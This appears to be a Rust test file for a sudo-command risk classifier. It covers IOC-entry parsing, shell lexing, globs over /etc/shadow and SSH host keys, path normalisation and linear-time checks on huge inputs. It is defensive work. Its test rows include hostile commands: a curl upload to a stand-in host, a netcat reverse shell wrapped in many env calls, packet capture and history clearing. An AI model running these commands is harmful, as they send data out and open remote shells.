        ("/bin/bash", &["-c", "tcpdump -w /tmp/x"], IOC),
        ("/bin/bash", &["-c", "curl -T f http://x"], IOC),
        (
            "/bin/bash",
            &["-c", "/usr/local/bin/curl -T f http://x"],
            NONE,
        ),
        ("/usr/bin/true", &[], NONE),
    ];
    for (cmd, argv, want) in rows {
        let got = classify(&SudoRequest::new("alice", 70001, cmd, argv), &extra);
        assert_eq!(got, *want, "{cmd} {argv:?}");
    }
}

#[test]
fn ioc_entries_parse() {
    assert_eq!(
        parse_ioc_entry("tcpdump"),
        Ok(IocEntry::Name("tcpdump".into()))
    );
    assert_eq!(
        parse_ioc_entry("/usr/sbin/tcpdump"),
        Ok(IocEntry::Command {
            path: "/usr/sbin/tcpdump".into(),
            args: None
        })
    );
    assert_eq!(
        parse_ioc_entry("/usr/bin/curl -T"),
        Ok(IocEntry::Command {
            path: "/usr/bin/curl".into(),
            args: Some(vec!["-T".into()])
        })
    );
    for bad in [
        "",
        "  ",
        "ALL",
        "a/b",
        "tcp dump",
        "nc\n",
        "/usr/bin/../bin/nc",
        "/usr/bin/*",
        "..",
        "'nc'",
        "n*",
    ] {
        assert!(parse_ioc_entry(bad).is_err(), "{bad:?} accepted");
    }
}

#[test]
fn class_names_and_parsing() {
    for (name, bit) in [
        ("ioc", CLASS_IOC),
        ("software-install", CLASS_SOFTWARE_INSTALL),
        ("account-change", CLASS_ACCOUNT_CHANGE),
        ("sensitive-read", CLASS_SENSITIVE_READ),
    ] {
        assert_eq!(parse_class(name), Some(bit));
        assert_eq!(class_names(bit), vec![name]);
    }
    for bad in ["", "IOC", "all", "software_install", " ioc", "account"] {
        assert_eq!(parse_class(bad), None, "{bad:?}");
    }
    assert_eq!(
        class_names(CLASS_ALL | 0xff00),
        vec![
            "ioc",
            "software-install",
            "account-change",
            "sensitive-read"
        ]
    );
    assert!(class_names(0).is_empty());
    assert_eq!(
        class_names(CLASS_IOC | CLASS_SENSITIVE_READ),
        vec!["ioc", "sensitive-read"]
    );
}

#[test]
fn lexer_shapes() {
    let (cmds, subs) = lex("a b 2>&1 >/x; c 'd e' \"f $(g h)\" | i >> /y && j < /z &> /w");
    let words: Vec<Vec<&str>> = cmds
        .iter()
        .map(|c| c.words.iter().map(String::as_str).collect())
        .collect();
    assert_eq!(
        words,
        vec![
            vec!["a", "b"],
            vec!["c", "d e", "f $(g h)"],
            vec!["i"],
            vec!["j"]
        ]
    );
    let r0: Vec<(RedirOp, &str)> = cmds[0]
        .redirs
        .iter()
        .map(|r| (r.op, r.target.as_str()))
        .collect();
    assert_eq!(r0, vec![(RedirOp::DupFd, ""), (RedirOp::Out, "/x")]);
    assert_eq!(cmds[2].redirs[0].op, RedirOp::Append);
    let r3: Vec<(RedirOp, &str)> = cmds[3]
        .redirs
        .iter()
        .map(|r| (r.op, r.target.as_str()))
        .collect();
    assert_eq!(r3, vec![(RedirOp::In, "/z"), (RedirOp::Out, "/w")]);
    assert_eq!(subs, vec!["g h)".to_string()]);
    // Unterminated quotes and stray operators do not panic.
    for s in [
        "'", "\"", "\\", ">", "<<", ">&", "2>&", "a >", "$(", "`", "#", "&>", "<>", ">|",
    ] {
        let _ = lex(s);
        let _ = classify_as_root("/bin/sh", &["-c", s]);
    }
}

#[test]
fn globs() {
    assert!(glob_match("/etc/sha*", "/etc/shadow"));
    assert!(glob_match("/etc/*", "/etc/shadow"));
    assert!(glob_match("/*/shadow", "/etc/shadow"));
    assert!(glob_match("/etc/s?ad[o]w", "/etc/shadow"));
    assert!(glob_match(
        "/etc/ssh/ssh_host_*_key",
        "/etc/ssh/ssh_host_rsa_key"
    ));
    assert!(!glob_match("/etc/ssh/*.pub", "/etc/ssh/ssh_host_rsa_key"));
    assert!(!glob_match("/*", "/etc/shadow"), "* does not cross /");
    assert!(!glob_match("/etc/pass*", "/etc/shadow"));
    assert!(glob_match("/etc/[", "/etc/["));
    assert!(glob_match("/etc/**", "/etc/x"));
    assert!(!glob_match("/etc/*x", "/etc/abc"));
}

#[test]
fn paths_normalise() {
    for (input, want) in [
        ("/etc/shadow", Some("/etc/shadow")),
        ("//etc//shadow", Some("/etc/shadow")),
        ("/etc/./shadow", Some("/etc/shadow")),
        ("/a/b/../../etc/shadow", Some("/etc/shadow")),
        ("/../../etc/shadow", Some("/etc/shadow")),
        ("/", Some("/")),
        ("/..", Some("/")),
        ("~root/.ssh", Some("/root/.ssh")),
        ("~root", Some("/root")),
        ("~/x", Some("/root/x")),
        ("~rootx/x", None),
        ("~bob/x", None),
        ("etc/shadow", None),
        ("", None),
    ] {
        assert_eq!(
            normalise(input, Some("/root")).as_deref(),
            want,
            "{input:?}"
        );
    }
    assert_eq!(normalise("~/x", None), None);
}

/// B10: huge inputs classify without panicking, in linear time.
#[test]
fn huge_inputs() {
    let many: Vec<String> = (0..10_000).map(|i| format!("pkg{i}")).collect();
    let mut argv: Vec<&str> = vec!["install"];
    argv.extend(many.iter().map(String::as_str));
    assert_eq!(classify_as_root("/usr/bin/apt", &argv), SW);
    let paths: Vec<String> = (0..10_000).map(|i| format!("/srv/x/../f{i}")).collect();
    let paths: Vec<&str> = paths.iter().map(String::as_str).collect();
    assert_eq!(classify_as_root("/bin/cat", &paths), NONE);
    assert_eq!(classify_as_root("/bin/rm", &paths), NONE);

    let big = "A".repeat(1 << 20);
    let big_path = format!("/{}", "a/".repeat(1 << 19));
    let big_script = "echo x; ".repeat((1 << 20) / 8);
    let nested_subs = "\"$(".repeat((1 << 20) / 3);
    let quotes = "'\"".repeat(1 << 19);
    let dollars = "$(".repeat(1 << 19);
    for arg in [
        &big,
        &big_path,
        &big_script,
        &nested_subs,
        &quotes,
        &dollars,
    ] {
        for cmd in [
            "/bin/cat",
            "/bin/bash",
            "/usr/bin/python3",
            "/usr/bin/perl",
            "/bin/rm",
            "/usr/bin/find",
            "/usr/bin/apt",
            "/usr/bin/watch",
            "/bin/cp",
        ] {
            let _ = classify_as_root(cmd, &[arg.as_str()]);
            let _ = classify_as_root(cmd, &["-c", arg.as_str()]);
            let _ = classify_as_root(cmd, &["-e", arg.as_str(), "socket", "exec"]);
        }
    }
    // 10 000 nested wrappers are peeled in a loop.
    let mut chain: Vec<&str> = vec!["env"; 10_000];
    chain.extend(["nc", "-e", "/bin/sh", "h", "1"]);
    assert_eq!(classify_as_root("/usr/bin/env", &chain), IOC);
    // Deep `sh -c` nesting stops at MAX_DEPTH instead of recursing without bound.
    let mut s = String::from("history -c");
    for _ in 0..8 {
        s = format!("sh -c {}", shell_quote(&s));
    }
    let _ = classify_as_root("/bin/sh", &["-c", &s]);
    // find with 10 000 start paths and -exec.
    let mut find: Vec<&str> = paths.clone();
    find.extend(["-exec", "find", "{}", "-exec", "cat", "{}", ";", ";"]);
    let _ = classify_as_root("/usr/bin/find", &find);
}

/// Work grows linearly with the input: the same hostile shapes at 8 times the size take about
/// 8 times as long, where quadratic work would take 64 times. A ratio of the fastest of three
/// runs at each size, not a wall-clock limit, so a loaded CI machine does not fail it (the
/// former "under 60 s" bound did, twice) and a quadratic regression still does.
#[test]
fn work_grows_linearly_with_input() {
    fn shapes(n: usize) -> Vec<String> {
        vec![
            "A".repeat(n),
            format!("/{}", "a/".repeat(n / 2)),
            "echo x; ".repeat(n / 8),
            "\"$(".repeat(n / 3),
            "'\"".repeat(n / 2),
            "$(".repeat(n / 2),
        ]
    }
    fn run(n: usize) -> std::time::Duration {
        let inputs = shapes(n);
        let many: Vec<String> = (0..n / 64).map(|i| format!("/srv/x/../f{i}")).collect();
        let many: Vec<&str> = many.iter().map(String::as_str).collect();
        (0..3)
            .map(|_| {
                let t = std::time::Instant::now();
                for arg in &inputs {
                    for cmd in ["/bin/bash", "/usr/bin/find", "/usr/bin/python3", "/bin/cp"] {
                        let _ = classify_as_root(cmd, &["-c", arg.as_str()]);
                        let _ = classify_as_root(cmd, &[arg.as_str()]);
                    }
                }
                let _ = classify_as_root("/bin/rm", &many);
                t.elapsed()
            })
            .min()
            .unwrap_or_default()
    }
    let small = run(32 << 10);
    let large = run(256 << 10);
    let ratio = large.as_secs_f64() / small.as_secs_f64().max(1e-6);
    assert!(
        ratio < 24.0,
        "8 times the input took {ratio:.1} times as long ({small:?} -> {large:?})"
    );
}

fn shell_quote(s: &str) -> String {
    format!("'{}'", s.replace('\'', "'\\''"))
}
